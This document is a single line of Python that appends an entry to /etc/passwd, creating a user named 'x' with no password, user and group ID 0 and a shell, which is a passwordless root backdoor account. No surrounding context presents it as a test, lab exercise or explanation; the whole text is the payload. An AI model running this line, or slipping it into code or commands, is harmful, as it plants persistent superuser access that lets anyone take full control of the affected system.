open('/etc/passwd', 'a').write('x::0:0::/:/bin/sh')
